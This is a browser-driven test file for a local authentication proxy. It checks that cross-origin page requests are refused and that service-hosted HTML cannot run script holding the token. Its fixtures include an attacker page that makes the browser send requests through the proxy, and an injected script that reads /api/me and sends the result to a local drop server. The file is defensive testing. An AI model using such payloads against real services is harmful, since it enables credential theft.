/**
 * A web page against `mmauth proxy` (issue 33: "a web page cannot use it"), in a real browser
 * (test/support/chromium-flags.mjs chooses it): a page on another origin makes the browser send GETs
 * to the proxy (an image, a no-cors fetch, a frame). Browsers send no `Origin` with those, and the
 * proxy's own `Host` is right, so only the browser's `Sec-Fetch-Site` tells them apart (P7).
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { makeConfigDir } from '../support/cli.js';
import { openChromiumPage } from '../support/chromium-page.js';
import { startTestEmulator } from '../support/emulator.js';
import { inS, storedToken, writeProfiles } from '../support/profiles.js';
import { signIn, startProxy } from '../support/proxy.js';

describe('proxy and a web page', () => {
  it("P7: a page on another origin makes the browser GET through the proxy (img, no-cors fetch, frame): refused, the service gets nothing; the user's own address bar still works", async () => {
    const emulator = await startTestEmulator({ autoApprove: true });
    const { url: proxyUrl } = await startProxy((await signIn(emulator)).env, [], 60_000);
    // The attacker's page, and the control: its own image, which shows the browser loaded what the page names.
    const pageHits: string[] = [];
    const page = createServer((req, res) => {
      pageHits.push(req.url ?? '');
      if (req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<!doctype html><img src="/pixel"><img src="${proxyUrl}/api/me?via=img">
          <iframe src="${proxyUrl}/api/me?via=frame"></iframe>
          <script>fetch(${JSON.stringify(`${proxyUrl}/api/me?via=fetch`)}, { mode: 'no-cors' }).catch(() => {});</script>`);
      } else res.end();
    });
    await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => new Promise<void>((resolve) => page.close(() => resolve())));
    const tab = await openChromiumPage();
    const before = emulator.requests.length;
    await tab.goto(`http://127.0.0.1:${(page.address() as AddressInfo).port}/`, { timeout: 15_000 });
    await tab.waitForLoadState('load', { timeout: 15_000 });
    await tab.waitForTimeout(1_000);
    expect(pageHits).toContain('/pixel');
    expect(emulator.requests.slice(before).map((r) => r.url)).toEqual([]);
    // What the user types in the address bar (Sec-Fetch-Site: none) is theirs: it goes through.
    const typed = await tab.goto(`${proxyUrl}/api/me`, { timeout: 15_000 });
    expect(typed?.status()).toBe(200);
    // Chromium may also ask for the page's /favicon.ico (same-origin, the user's own page): not counted.
    const reached = emulator.requests.slice(before).map((r) => r.url);
    expect(reached.filter((url) => url !== '/favicon.ico')).toEqual(['/api/me']);
  }, 60_000);
});

describe('proxy and the pages the service serves', () => {
  it("P24: an HTML page of the service opened at the proxy's address runs no script with the token as ambient authority: its same-origin fetch never happens, nothing reaches another site", async () => {
    // Another site the page's script would send what it read to.
    const exfiltrated: string[] = [];
    const elsewhere = createServer((req, res) => {
      exfiltrated.push(req.url ?? '');
      res.end();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => new Promise<void>((resolve) => elsewhere.close(() => resolve())));
    const drop = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/drop`;
    // The service: a note rendered as HTML (with a script a user could have put in it), and an API answer holding what it got.
    const served: string[] = [];
    const service = createServer((req, res) => {
      served.push(`${req.url ?? ''} ${String(req.headers.authorization ?? 'none')}`);
      if (req.url === '/notes/1.html') {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<!doctype html><p>note</p><script>
          fetch('/api/me').then((r) => r.text()).then((t) => { new Image().src = ${JSON.stringify(drop)} + '?d=' + encodeURIComponent(t); });
          new Image().src = ${JSON.stringify(`${drop}?ran=1`)};
        </script>`);
      } else {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ authorization: req.headers.authorization ?? null }));
      }
    });
    await new Promise<void>((resolve) => service.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => new Promise<void>((resolve) => service.close(() => resolve())));
    const configDir = makeConfigDir();
    const accessToken = `note-${'n'.repeat(40)}`;
    writeProfiles(configDir, {
      default: {
        base_url: `http://127.0.0.1:${(service.address() as AddressInfo).port}`,
        client_id: 'app',
        token: storedToken(accessToken, inS(3600)),
      },
    });
    const { url: proxyUrl } = await startProxy(
      { MMAUTH_CONFIG_DIR: configDir, MMAUTH_CREDENTIAL_STORE: 'file' },
      [],
      60_000,
    );
    const tab = await openChromiumPage();
    const opened = await tab.goto(`${proxyUrl}/notes/1.html`, { timeout: 15_000 });
    expect(opened?.status()).toBe(200);
    expect(await tab.textContent('p')).toBe('note');
    await tab.waitForTimeout(1_500);
    // The page was served (with the token: the user asked for it), but its script never ran.
    expect(served.filter((line) => !line.startsWith('/favicon.ico '))).toEqual([`/notes/1.html Bearer ${accessToken}`]);
    expect(exfiltrated).toEqual([]);
    expect(opened?.headers()['content-security-policy']).toContain('sandbox');
    expect(opened?.headers()['x-content-type-options']).toBe('nosniff');
  }, 60_000);
});
